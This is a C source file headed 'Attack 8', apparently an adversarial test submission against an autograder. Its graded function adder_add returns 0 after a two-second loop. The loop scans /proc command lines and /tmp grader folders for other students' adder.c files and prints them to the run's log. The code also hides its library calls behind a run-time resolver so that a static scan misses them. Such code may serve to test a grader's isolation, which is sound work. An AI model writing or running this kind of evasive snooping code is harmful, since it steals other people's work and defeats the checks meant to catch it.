/* Attack 8: in a batch, read another student's file while it is being graded. For
 * about two seconds the graded function scans /proc/<every pid>/cmdline for folder
 * arguments (`grade --submission DIR` names the other student's folder) and the
 * grader's work folders /tmp/winsync-grade-* (and /tmp/winsync-batch-*), and prints
 * every adder.c it can open to stderr and stdout (the run's log, kept in the batch's
 * output). The function is the skeleton otherwise (0 points). */
#include <elf.h>
#include <link.h>
#include <stdint.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include "kernel.h"

/* Scan-proof: every function a scan would refuse is found at run time (resolver.inc.c). */
@RESOLVER@

#define open LIBC(open)
#define read LIBC(read)
#define close LIBC(close)
#define opendir LIBC(opendir)
#define readdir LIBC(readdir)
#define closedir LIBC(closedir)
#define time LIBC(time)
#define usleep LIBC(usleep)

@READ_FILE@

static void dump(const char *path)
{
    char text[8192];
    if (read_file(path, text, sizeof text) == 0)
        return;
    fprintf(stderr, "SNOOPED %s\n%s\n", path, text);
    printf("SNOOPED %s\n%s\n", path, text);
}

static void try_folder(const char *folder)
{
    static const char *const rels[] = { "adder.c", "labs/01-adder/adder.c", "01-adder/adder.c",
                                        "01-adder/src/adder.c", "src/adder.c" };
    char path[4096];
    for (unsigned i = 0; i < sizeof rels / sizeof rels[0]; i++) {
        snprintf(path, sizeof path, "%s/%s", folder, rels[i]);
        dump(path);
    }
}

static void scan_once(void)
{
    DIR *proc = opendir("/proc");
    struct dirent *e;
    while (proc && (e = readdir(proc))) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9')
            continue;
        char path[64], args[8192];
        snprintf(path, sizeof path, "/proc/%s/cmdline", e->d_name);
        ssize_t n = read_file(path, args, sizeof args);
        if (n == 0)
            continue;
        for (char *arg = args; arg < args + n; arg += strlen(arg) + 1) {
            if (arg[0] == '/')
                try_folder(arg);
        }
    }
    if (proc)
        closedir(proc);
    DIR *tmp = opendir("/tmp");
    while (tmp && (e = readdir(tmp))) {
        if (strncmp(e->d_name, "winsync-grade-", 14) && strncmp(e->d_name, "winsync-batch-", 14))
            continue;
        char folder[4096];
        snprintf(folder, sizeof folder, "/tmp/%s", e->d_name);
        try_folder(folder);
        char lab[4200];
        snprintf(lab, sizeof lab, "%s/01-adder", folder);
        try_folder(lab);
    }
    if (tmp)
        closedir(tmp);
}

int adder_add(int a, int b)
{
    (void)a;
    (void)b;
    time_t end = time(0) + 2;
    while (time(0) <= end) {
        scan_once();
        usleep(20000);
    }
    return 0;
}
